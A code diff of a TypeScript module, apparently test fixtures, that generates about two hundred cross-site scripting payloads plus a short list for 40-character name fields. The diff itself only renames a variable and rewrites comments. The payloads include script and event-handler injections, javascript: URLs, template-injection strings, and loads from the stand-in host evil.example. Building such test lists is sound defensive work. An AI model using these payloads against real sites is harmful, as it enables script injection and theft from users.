@@ -1,4 +1,4 @@
-/** Texts that want to run, or to call out, wherever a page is careless with them. `__ran()` is what each would run. */
+/** Payloads that run a script or send a request if a page renders them as HTML. A script calls `__ran()`. */
 const bases: readonly string[] = [
   '<script>__ran()</script>', '<script src=//evil.example/x.js></script>', '<img src=x onerror=__ran()>', '<img src=//evil.example/i.png>', '<svg onload=__ran()>', '<svg><script>__ran()</script></svg>',
   '<svg><animate onbegin=__ran() attributeName=x dur=1s>', '<svg><a href=javascript:__ran()><text y=9>x</text></a></svg>', '<math><mtext><table><mglyph><style><img src=x onerror=__ran()>', '<iframe srcdoc="<script>parent.__ran()</script>">',
@@ -9,7 +9,7 @@ const bases: readonly string[] = [
   'javascript:__ran()', 'data:text/html,<script>__ran()</script>', '{{constructor.constructor("__ran()")()}}', `$${'{__ran()}'}`, '![x](//evil.example/m.png)', '[x](javascript:__ran())', '"onmouseover=__ran() x="', "';__ran();//",
 ];
 
-const dressings: readonly ((text: string) => string)[] = [
+const wrappers: readonly ((text: string) => string)[] = [
   (text) => text,
   (text) => (text.includes('<') ? text : `<!-- ${text}`).replace(/<(\/?)(\w+)/g, (_all, slash: string, tag: string) => `<${slash}${[...tag].map((email, index) => (index % 2 ? email : email.toUpperCase())).join('')}`),
   (text) => `"'>${text}`,
@@ -17,8 +17,8 @@ const dressings: readonly ((text: string) => string)[] = [
   (text) => `&lt;b&gt; ${text.replaceAll(' ', '/')}`,
 ];
 
-/** Two hundred, each one line and short enough for the shortest field that takes such signs. */
-export const payloads: readonly string[] = dressings.flatMap((dress) => bases.map(dress));
+/** Two hundred one-line payloads that fit into the shortest field that accepts such characters. */
+export const payloads: readonly string[] = wrappers.flatMap((dress) => bases.map(dress));
 
-/** Names may have neither @ nor : nor a slash in them, and 40 signs: these are what remains. */
+/** Names reject @, : and /, and have at most 40 characters. */
 export const shortPayloads: readonly string[] = ['<img src=x onerror=__ran()>', '<svg onload=__ran()>', '"><b onclick=__ran()>x', '<input autofocus onfocus=__ran()>', '<body onload=__ran()>', '{{__ran()}}', `$${'{__ran()}'}`, "';__ran();"];
